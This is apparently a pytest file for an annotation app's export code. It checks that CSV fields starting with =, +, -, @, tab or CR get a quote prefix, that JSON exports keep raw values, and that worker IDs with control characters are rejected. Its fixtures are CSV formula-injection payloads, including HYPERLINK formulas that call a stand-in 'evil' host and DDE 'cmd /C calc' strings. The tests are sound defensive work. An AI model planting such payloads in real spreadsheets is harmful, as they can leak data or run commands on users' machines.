"""CSV formula injection, on SQLite and on Postgres's server-formatted
path: every CSV field that starts with ``=``, ``+``, ``-``, ``@``, tab or CR is prefixed with
``'`` (OWASP), JSONL and SNaC keep the raw values, a comment's leading tab survives storage,
and a worker ID with a control character is refused before it can split a CSV row."""

from __future__ import annotations

import csv
import io
import json

import pytest

from tests.conftest import BACKENDS, make_database_url, make_study
from tests.helpers import api_open, db_snapshot, export_text

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
SEGMENTS = ['=HYPERLINK("http://evil","x") and -2+3 then @SUM(A1) end.', "+cmd|' /C calc'!A0"]
DOC_ID = '=HYPERLINK("http://evil/?"&A1)'
WORKERS = ["=1+1", "+1", "-1", "@me", "plain"]
SPANS = [
    (0, '=HYPERLINK("http://evil","x")'),
    (0, "-2+3"),
    (1, "+cmd"),
    (0, "@SUM(A1)"),
    (1, "calc"),
]
COMMENTS = ["=cmd|' /C calc'!A0", "\tleading tab", "-minus", "@at", "fine"]


@pytest.fixture(params=BACKENDS)
def database_url(request, tmp_path):
    return make_database_url(request.param, request, tmp_path)


def annotate(client):
    make_study(
        app=client.application, documents=[(DOC_ID, SEGMENTS)], annotators_per_doc=len(WORKERS)
    )
    for worker, comment, (segment, text) in zip(WORKERS, COMMENTS, SPANS, strict=True):
        token = api_open(client, worker, DOC_ID).get_json()["token"]
        start = SEGMENTS[segment].index(text)
        end = start + len(text)
        answer = client.post(
            f"/api/assignments/{token}/annotations",
            json={
                "segment": segment,
                "start": start,
                "end": end,
                "text": text,
                "category": "CharE",
                "comment": comment,
            },
        )
        assert answer.status_code == 201, answer.get_json()
        assert client.post(f"/api/assignments/{token}/submit").status_code == 200


def test_csv_fields_never_start_a_formula(app, client):
    annotate(client)
    rows = list(csv.reader(io.StringIO(export_text(app, fmt="csv"))))
    assert len(rows) == 1 + len(WORKERS)
    for row in rows:
        for field in row:
            assert not field.startswith(DANGEROUS), (field, row)
    body = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert {r["document"] for r in body} == {"'" + DOC_ID}
    assert [r["worker_id"] for r in body] == ["'=1+1", "'+1", "'-1", "'@me", "plain"]
    assert [r["comment"] for r in body] == ["'" + c if c[0] in "=+-@\t" else c for c in COMMENTS]
    assert [r["span_text"] for r in body] == ["'" + t if t[0] in "=+-@" else t for _, t in SPANS]


def test_jsonl_and_snac_keep_the_raw_values(app, client):
    annotate(client)
    rows = [json.loads(line) for line in export_text(app, fmt="jsonl").splitlines()]
    assert [r["worker_id"] for r in rows] == WORKERS
    assert [r["comment"] for r in rows] == COMMENTS
    assert rows[0]["document"] == DOC_ID
    snac = json.loads(export_text(app, fmt="snac"))
    assert list(snac) == [DOC_ID]
    assert snac[DOC_ID]["1"]["errors"][0]["span"] == "+cmd"


def test_a_comments_leading_tab_is_kept_at_storage(app, client):
    make_study(app)
    token = api_open(client).get_json()["token"]
    answer = client.post(
        f"/api/assignments/{token}/annotations",
        json={
            "segment": 0,
            "start": 0,
            "end": 5,
            "text": "First",
            "category": "CharE",
            "comment": "\t=1+1 \n",
        },
    )
    assert answer.status_code == 201
    stored = client.get(f"/api/assignments/{token}").get_json()["annotations"][0]["comment"]
    assert stored == "\t=1+1"


@pytest.mark.parametrize("worker", ["a\rb", "a\nb", "\x1b[31m", "tab\there", "a\x85b"])
def test_worker_ids_with_control_characters_are_refused(app, client, worker):
    make_study(app)
    before = db_snapshot(app)
    answer = api_open(client, worker)
    assert answer.status_code == 400
    assert "control character" in answer.get_json()["error"]
    page = client.get("/s/demo", query_string={"worker_id": worker})
    assert page.status_code == 400
    prolific = client.get("/s/demo", query_string={"PROLIFIC_PID": worker, "SESSION_ID": "s"})
    assert prolific.status_code == 400
    assert db_snapshot(app) == before


def test_new_tokens_never_start_with_a_formula_character(app, client):
    make_study(app, annotators_per_doc=200)
    app.config["ARRIVAL_RATE_LIMIT"] = "100000 per minute"  # one client, 200 arrivals
    tokens = [api_open(client, f"w{i}").get_json()["token"] for i in range(200)]
    assert not any(t.startswith(DANGEROUS) for t in tokens)
